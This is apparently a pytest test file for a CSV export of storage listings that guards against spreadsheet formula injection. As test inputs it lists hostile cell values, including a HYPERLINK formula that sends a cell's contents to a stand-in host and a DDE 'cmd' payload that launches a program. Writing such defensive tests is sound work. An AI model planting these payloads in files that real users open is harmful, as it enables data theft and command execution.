"""CSV of listing rows: complete, readable by Excel, and never executed by a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.errors import InvalidInput
from storage.model.listings import OBJECT_SCHEMA
from storage.objects.export import COLUMNS, rows_to_csv
from storage.spreadsheet import harmless

_WHEN = datetime(2026, 11, 3, 12, 30, tzinfo=UTC)
_SIGNS = "=+-@＝＋－＠"


def _csv(*keys: str) -> bytes:
    rows = [
        {"key": key, "size": 7, "etag": "e1", "modified": _WHEN, "storage_class": "STANDARD"}
        for key in keys
    ]
    return rows_to_csv(
        "b", pa.RecordBatch.from_pylist(rows, schema=OBJECT_SCHEMA), ["clip"] * len(keys)
    )


def _read(data: bytes, separator: str = ",") -> list[list[str]]:
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=separator))


def test_it_reads_back_with_every_fact_of_the_row() -> None:
    """Header and one line an object; quotes, commas, line ends and emoji in keys survive."""
    keys = ["mastered/A.mp3", 'a,"b"\r\nc', "emoji 🎧 é"]
    header, *rows = _read(_csv(*keys))
    assert header == list(COLUMNS)
    assert [row[1] for row in rows] == keys
    assert rows[0] == [
        "b", "mastered/A.mp3", "clip", "7", "2026-11-03T12:30:00+00:00", "e1", "STANDARD",
    ]  # fmt: skip


def test_the_bytes_suit_excel() -> None:
    """UTF-8 with a byte order mark, CRLF line ends, every cell in quotes."""
    data = _csv("a")
    assert data.startswith(b"\xef\xbb\xbf")
    first = data.decode("utf-8-sig").split("\r\n")[0]
    assert first == ",".join(f'"{name}"' for name in COLUMNS)


@pytest.mark.parametrize(
    "key",
    [
        '=HYPERLINK("http://x/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
    ],
)
def test_formulas_begin_with_an_apostrophe(key: str) -> None:
    """Each way to begin a formula is shown as text, with the key unchanged behind the mark."""
    (_, row) = _read(_csv(key))
    assert row[1].startswith("'")
    assert row[1].replace("'", "") == key.replace("'", "")


@given(st.text(alphabet=[*_SIGNS, ";", "\t", "\r", "\n", '"', "'", " ", ",", "x", "1"]))
def test_no_cell_begins_a_formula_whatever_the_separator(key: str) -> None:
    """Also where the spreadsheet splits at ";" or tabs, as European Excel and pasting do."""
    data = _csv(key)
    for separator in ",;\t":
        for row in _read(data, separator):
            assert not [cell for cell in row if cell.lstrip().lstrip('"').startswith(tuple(_SIGNS))]


@given(st.text())
def test_harmless_text_is_left_alone(key: str) -> None:
    """Nothing but apostrophes is ever added, and never to a name without a formula sign."""
    assert harmless(key).replace("'", "") == key.replace("'", "")
    if not set(key) & {*_SIGNS, *"﹢﹣﹦﹫", "\t", "\r", "\n"}:
        assert harmless(key) == key


def test_kinds_that_do_not_fit_the_rows_are_refused() -> None:
    """A file whose kinds are shifted against its keys is never written."""
    with pytest.raises(InvalidInput):
        rows_to_csv("b", pa.RecordBatch.from_pylist([], schema=OBJECT_SCHEMA), ["clip"])
